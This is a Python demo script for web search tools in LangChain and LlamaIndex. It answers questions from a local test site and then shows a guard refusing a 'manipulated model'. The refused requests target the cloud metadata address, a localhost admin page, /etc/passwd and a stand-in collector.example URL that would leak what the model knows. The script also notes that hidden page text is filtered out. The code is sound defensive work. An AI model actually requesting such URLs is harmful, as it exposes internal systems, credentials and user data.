"""Search, read and cite, in LangChain and in LlamaIndex, without network or key: ``make
demo``.

A small web site on 127.0.0.1 replaces the web, an index of it the search engine, and a
script the model (examples/scripted.py). Everything else is what you would use: the
tools, the agents, the guard.
"""

from __future__ import annotations
import asyncio
import sys
import tempfile
from collections.abc import Iterable, Iterator, Mapping
from contextlib import contextmanager
from pathlib import Path
from typing import Any

from langchain.agents import create_agent
from langchain_core.messages import AIMessage, ToolMessage
from llama_index.core.agent.workflow import FunctionAgent, ToolCallResult
from llama_index.core.workflow import Context
from rich.console import Console
from rich.padding import Padding
from rich.panel import Panel
from rich.text import Text
from scripted import ScriptedChat, scripted_llm
from serve import Site

from langchain_websearch import (
    WebSearchMiddleware,
    WebSearchToolkit,
    collect_sources,
)
from llamaindex_websearch import WebSearchToolSpec
from websearch_core import WebSearch
from websearch_core.index import Index
from websearch_core.render import CITATION_INSTRUCTION
from websearch_core.settings import Settings

console = Console(width=110, highlight=False)


@contextmanager
def open_demo_web() -> Iterator[tuple[WebSearch, Site]]:
    """Serve the example site, index it, and yield a `WebSearch` that may read this one
    local origin.
    """
    with tempfile.TemporaryDirectory() as folder, Site() as site:
        path = Path(folder) / "index.db"
        options = {"local": {"path": path}}
        with WebSearch(
            "local",
            reader="direct",
            settings=Settings.load(providers=options),
            internal=[site.url],
        ) as web:
            report = Index(path).add_pages(
                web.crawl(f"{site.url}/", max_length=sys.maxsize)
            )
            console.print(
                f"A web site on {site.url}: {report.added} pages read and indexed.\n",
                style="dim",
            )
            yield web, site


def ask_langchain(web: WebSearch, question: str) -> None:
    """Let a LangChain agent answer *question*."""
    toolkit = WebSearchToolkit(web=web, provenance="seen")
    agent = create_agent(
        ScriptedChat(),
        middleware=[WebSearchMiddleware(toolkit)],
        system_prompt=CITATION_INSTRUCTION,
    )
    state = agent.invoke({"messages": [{"role": "user", "content": question}]})
    messages = state["messages"]
    show_question("LangChain", "create_agent with WebSearchMiddleware", question)
    for message in messages:
        for call in message.tool_calls if isinstance(message, AIMessage) else []:
            show_call(call["name"], call["args"])
        if isinstance(message, ToolMessage):
            show_tool_output(str(message.content))
    show_answer(str(messages[-1].content), collect_sources(state))


async def ask_llamaindex(web: WebSearch, question: str) -> None:
    """Let a LlamaIndex agent answer *question*."""
    spec = WebSearchToolSpec(web=web, provenance="seen")
    tools: list[Any] = list(spec.to_tool_list())
    agent = FunctionAgent(
        tools=tools,
        llm=scripted_llm(),
        system_prompt=CITATION_INSTRUCTION,
        streaming=False,
    )
    conversation = Context(agent)
    await spec.allow_text(question, conversation)
    show_question("LlamaIndex", "FunctionAgent with WebSearchToolSpec", question)
    running = agent.run(question, ctx=conversation)
    sources: list[dict[str, Any]] = []
    async for event in running.stream_events():
        if isinstance(event, ToolCallResult):
            show_call(event.tool_name, event.tool_kwargs)
            show_tool_output(str(event.tool_output.content))
            found = [document.metadata for document in event.tool_output.raw_output]
            sources = sources or [
                {"id": each["citation_id"], "title": each["title"], "url": each["url"]}
                for each in found
            ]
    show_answer(str(await running), sources)
    await web.aclose()


def show_refusals(web: WebSearch) -> None:
    """Show what a manipulated model gets when it tries to open forbidden URLs."""
    # without provenance, so that the guard refuses
    search, read = WebSearchToolkit(web=web).get_tools()
    console.print(
        Panel(
            "What a manipulated model gets when it opens something else", style="bold"
        )
    )
    for url in (
        "http://169.254.169.254/latest/meta-data/",
        "http://localhost:8080/admin",
        "file:///etc/passwd",
    ):
        show_call("open_page", {"url": url})
        show_tool_output(str(read.invoke({"url": url})))
    leak = {"url": "https://collector.example/?q=what+the+model+knows"}
    show_call("open_page", leak)
    show_tool_output(
        str(WebSearchToolkit(web=web, provenance="seen").get_tools()[1].invoke(leak))
    )
    show_call("web_search", {"query": "marlinspike"})
    show_tool_output(str(search.invoke({"query": "marlinspike"})))
    console.print(
        "    (The word is on the pages seven times, but hidden from people, so it is "
        "hidden from models too.)\n",
        style="dim",
    )


def show_question(framework: str, how: str, question: str) -> None:
    """Print a question, and the agent that answers it."""
    console.print(
        Panel(
            Text.assemble((question, "bold"), ("\n" + how, "dim")),
            title=framework,
            title_align="left",
        )
    )


def show_call(tool: str, arguments: dict[str, Any]) -> None:
    """Print a call that a model makes."""
    console.print(
        Text.assemble(
            ("  → ", "bold cyan"),
            (tool, "cyan"),
            f"({', '.join(map(repr, arguments.values()))})",
        )
    )


def show_tool_output(text: str, max_lines: int = 9) -> None:
    """Print the first lines of a tool's output for the model."""
    lines = [
        line if len(line) <= 104 else f"{line[:103]}…"
        for line in text.splitlines()
        if line.strip()
    ]
    more = [f"… {len(lines) - max_lines} more lines"] if len(lines) > max_lines else []
    console.print(
        Padding(Text("\n".join([*lines[:max_lines], *more]), style="dim"), (0, 0, 1, 4))
    )


def show_answer(answer: str, sources: Iterable[Mapping[str, Any]]) -> None:
    """Print the final answer, and the sources that it cites."""
    console.print(Padding(Text(answer), (0, 0, 1, 2)), style="bold green")
    for source in sources:
        if f"[{source['id']}]" in answer:
            console.print(
                f"  [{source['id']}] {source['title']} — {source['url']}\n",
                style="green",
                markup=False,
            )


def main() -> None:
    """Run the demo."""
    with open_demo_web() as (web, site):
        ask_langchain(web, "How do I rotate a key without downtime?")
        asyncio.run(ask_llamaindex(web, "Which ferry runs on Sundays?"))
        show_refusals(web)
        console.print(
            f"{len(site.hits)} requests went to {site.url}, and none went anywhere "
            f"else.",
            style="dim",
        )


if __name__ == "__main__":
    main()
